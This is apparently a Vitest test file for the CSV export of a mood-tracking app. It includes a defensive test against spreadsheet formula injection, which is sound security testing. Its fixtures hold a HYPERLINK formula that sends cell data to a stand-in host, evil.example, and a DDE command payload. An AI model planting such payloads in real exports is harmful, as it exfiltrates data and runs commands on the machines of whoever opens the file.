import { exerciseById, type ExportDocument } from '@mend/core';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { coreBeliefPractice, createMoment, createPractice } from '../test-support/factories';
import type { TestClient } from '../test-support/test-client';
import { startTestServer, type TestServer } from '../test-support/test-server';

type CsvRow = Record<string, string>;

const readCsv = (text: string): CsvRow[] => parse(text, { bom: true, columns: true }) as CsvRow[];
const list = (cell: string | undefined) => (cell ? cell.split(' | ') : []);

const TRICKY_NOTE = 'Café, "quoted" words\nline two — 😊 日本語; tab\there';
const FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?leak="&A1,"help")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tindented', '\rreturn'];

describe('exporting as CSV', () => {
  let server: TestServer;
  let ana: TestClient;
  let ben: TestClient;
  let json: ExportDocument;
  beforeAll(async () => {
    server = await startTestServer({ config: { openRegistration: true } });
    ana = server.client();
    await ana.register('ana-csv');
    ben = server.client();
    await ben.register('ben-csv');
    const own = (await ana.post('/skills', { name: 'Ring my sister, twice', kind: 'coping', family: 'connection', summary: 'A call', steps: ['dial'] })).body;
    await ana.post('/moments', createMoment({ note: TRICKY_NOTE, skillIds: [own.id, 'box-breathing'], followUps: [{ at: '2026-11-02T21:00:00Z', distress: 3 }] }));
    await ana.post('/moments', createMoment({ note: null, trigger: null, distressAfter: null, arousal: null, emotions: [], triggerTags: [], contextTags: [], satWithFeeling: true }));
    for (const cell of FORMULA_CELLS) await ana.post('/moments', createMoment({ note: cell, trigger: cell }));
    await ana.post('/practices', coreBeliefPractice('I have to be perfect, always', 70, 55));
    await ana.post('/practices', createPractice({ steppedBack: true, notes: '=cmd|"/c calc"!A1' }));
    await ben.post('/moments', createMoment({ note: 'ben-only note', trigger: 'ben-only trigger' }));
    json = (await ana.get('/export')).body as ExportDocument;
  });
  afterAll(() => server.close());

  it('answers moments as a dated text/csv attachment, one row per moment, oldest first', async () => {
    const response = await ana.get('/export?format=csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="mend-moments-2026-11-02.csv"');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const rows = readCsv(response.body as string);
    expect(rows.map((row) => row.id)).toEqual(json.moments.map((moment) => moment.id));
    expect(Object.keys(rows[0]!)).toEqual([
      'id', 'occurredAt', 'distressBefore', 'distressAfter', 'arousal', 'emotions', 'trigger', 'triggerTags', 'contextTags',
      'skillIds', 'skillNames', 'followUps', 'note', 'satWithFeeling', 'version', 'createdAt', 'updatedAt',
    ]);
  });

  it('parses back to the same moments, lists joined with " | ", unicode, commas, quotes and newlines intact', async () => {
    const rows = readCsv((await ana.get('/export?format=csv&records=moments')).body as string);
    const formulaIds = new Set(json.moments.filter((moment) => FORMULA_CELLS.includes(moment.note ?? '')).map((moment) => moment.id));
    for (const moment of json.moments.filter((each) => !formulaIds.has(each.id))) {
      const row = rows.find((each) => each.id === moment.id)!;
      expect({
        occurredAt: row.occurredAt,
        distressBefore: Number(row.distressBefore),
        distressAfter: row.distressAfter === '' ? null : Number(row.distressAfter),
        arousal: row.arousal || null,
        emotions: list(row.emotions),
        trigger: row.trigger || null,
        triggerTags: list(row.triggerTags),
        contextTags: list(row.contextTags),
        skillIds: list(row.skillIds),
        followUps: list(row.followUps).map((cell) => ({ at: cell.slice(0, cell.lastIndexOf(': ')), distress: Number(cell.slice(cell.lastIndexOf(': ') + 2)) })),
        note: row.note || null,
        satWithFeeling: row.satWithFeeling === 'true',
        version: Number(row.version),
        createdAt: row.createdAt,
        updatedAt: row.updatedAt,
      }).toEqual({ ...moment, id: undefined, occurredAt: moment.occurredAt, followUps: moment.followUps.map((f) => ({ at: new Date(f.at).toISOString(), distress: f.distress })) } as unknown);
    }
    const tricky = rows.find((row) => row.note === TRICKY_NOTE)!;
    expect(list(tricky.skillNames)).toEqual(['Ring my sister, twice', 'Box breathing']);
  });

  it('neutralises cells a spreadsheet would run as a formula, in every text column', async () => {
    const rows = readCsv((await ana.get('/export?format=csv')).body as string);
    for (const cell of FORMULA_CELLS) {
      const row = rows.find((each) => each.note === `'${cell}`);
      expect(row, cell).toBeDefined();
      expect(row!.trigger).toBe(`'${cell}`);
    }
    // Nothing else is touched: no cell anywhere starts with a formula character unquoted.
    for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('starts with a UTF-8 byte-order mark, so spreadsheet programs read accents and other scripts', async () => {
    const response = await fetch(`${ana.baseUrl}/api/v1/export?format=csv`, { headers: { cookie: `mend_session=${ana.sessionCookie}` } });
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('answers practices, answers flattened as "step: answer" lines in the exercise’s order', async () => {
    const response = await ana.get('/export?format=csv&records=practices');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="mend-practices-2026-11-02.csv"');
    const rows = readCsv(response.body as string);
    expect(rows.map((row) => row.id)).toEqual(json.practices.map((practice) => practice.id));
    for (const practice of json.practices) {
      const row = rows.find((each) => each.id === practice.id)!;
      expect(row).toMatchObject({
        startedAt: practice.startedAt, durationSeconds: String(practice.durationSeconds), skillId: practice.skillId, kind: practice.kind,
        exerciseId: practice.exerciseId ?? '', distressBefore: String(practice.distressBefore ?? ''), distressAfter: String(practice.distressAfter ?? ''),
        steppedBack: String(practice.steppedBack), pathAreaId: practice.pathAreaId ?? '', createdAt: practice.createdAt,
      });
    }
    const worksheet = rows.find((row) => row.exerciseId === 'core-belief-worksheet')!;
    const steps = exerciseById('core-belief-worksheet')!.steps;
    const title = (id: string) => steps.find((step) => step.id === id)!.title;
    expect(worksheet.exerciseTitle).toBe(exerciseById('core-belief-worksheet')!.title);
    expect(worksheet.answers!.split('\n')).toEqual([
      `${title('belief')}: I have to be perfect, always`,
      `${title('strength-before')}: 70`,
      `${title('evidence-against')}: my friends keep calling`,
      `${title('strength-after')}: 55`,
    ]);
    expect(rows.find((row) => row.steppedBack === 'true')!.notes).toBe(`'=cmd|"/c calc"!A1`);
  });

  it('refuses an unknown format or records with a 400 naming the field, and records without csv', async () => {
    for (const [query, field] of [['format=xml', 'format'], ['format=csv&records=skills', 'records'], ['format=json&records=moments', 'records'], ['records=moments', 'records']] as const) {
      const response = await ana.get(`/export?${query}`);
      expect(response.status, query).toBe(400);
      expect(response.body.error.fields).toHaveProperty([field]);
      expect(response.body.error.message).toContain(field);
    }
    expect((await ana.get('/export?format=csv&extra=1')).status).toBe(400);
  });

  it('is described in the OpenAPI document as JSON or text/csv, with its query', async () => {
    const operation = (await ana.get('/openapi.json')).body.paths['/api/v1/export'].get;
    expect(Object.keys(operation.responses['200'].content)).toEqual(['application/json', 'text/csv']);
    expect(operation.responses['200'].content['text/csv'].schema).toMatchObject({ type: 'string' });
    expect(operation.responses['200'].content['application/json'].schema.properties.format).toBeDefined();
    expect(operation.parameters).toContainEqual(expect.objectContaining({ name: 'format', in: 'query', schema: expect.objectContaining({ enum: ['json', 'csv'] }) }));
    expect(operation.parameters).toContainEqual(expect.objectContaining({ name: 'records', in: 'query' }));
  });

  it('never shows another person’s data', async () => {
    const anas = [(await ana.get('/export?format=csv')).body, (await ana.get('/export?format=csv&records=practices')).body].join('');
    expect(anas).not.toContain('ben-only');
    const bens = readCsv((await ben.get('/export?format=csv')).body as string);
    expect(bens.map((row) => row.note)).toEqual(['ben-only note']);
    expect(readCsv((await ben.get('/export?format=csv&records=practices')).body as string)).toEqual([]);
  });
});
